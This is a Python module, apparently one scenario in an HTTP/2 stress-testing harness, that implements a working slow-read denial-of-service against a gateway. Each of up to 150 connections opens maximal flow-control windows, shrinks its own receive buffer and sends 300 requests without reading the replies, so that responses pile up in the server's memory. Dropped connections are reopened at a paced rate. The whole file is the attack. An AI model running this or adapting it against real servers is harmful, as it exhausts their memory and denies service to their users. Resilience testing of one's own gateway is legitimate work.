"""Connections that ask for 2.9 MB of replies each, open every window, and read nothing: what the peer does not take lies in
the gateway's or the kernel's memory. A stranger's: it asks for the console's page. Closed ones are opened again."""
import select
import socket
import struct
import time

from raw_h2 import END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, WINDOW_UPDATE, block

POINT = 10
CONNECTIONS = 150
REQUESTS = 300
PATH = "/"  # 9.7 KB for anybody
OPENS_PER_S = 50
ROOM = 16384
WINDOW = 0x7fffffff
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def words(requests=REQUESTS, path=PATH):
    """All that one connection says."""
    fields = block((":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", path))
    out = [PREFACE, frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, WINDOW)),
           frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW - 65535))]
    out += [frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, fields) for i in range(requests)]
    return b"".join(out)


def connect(port, said, patience_s=2):
    """A connection that has said it all, or None."""
    try:
        sock = socket.socket()
        sock.settimeout(patience_s)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, ROOM)  # its own kernel takes little
        sock.connect(("127.0.0.1", port))
        sock.sendall(said)
        return sock
    except OSError:
        return None


def is_over(sock):
    """Whether the other side has closed or reset it; nothing is read to see that."""
    poll = select.poll()
    poll.register(sock, select.POLLRDHUP)
    return bool(poll.poll(0))


def attack(target, stop, connections=CONNECTIONS):
    counts = {"opened": 0, "closed": 0, "refused": 0, "most_open": 0}
    said, held, began = words(), [], time.monotonic()
    try:
        while not stop.is_set():
            for sock in [one for one in held if is_over(one)]:
                sock.close()
                held.remove(sock)
                counts["closed"] += 1
            if len(held) < connections and counts["opened"] + counts["refused"] < OPENS_PER_S * target.share * (time.monotonic() - began + 1):
                sock = connect(target.h2c, said)
                counts["opened" if sock else "refused"] += 1
                if sock:
                    held.append(sock)
            else:
                stop.wait(0.02)
            counts["most_open"] = max(counts["most_open"], len(held))
    finally:
        for sock in held:
            sock.close()
    return counts
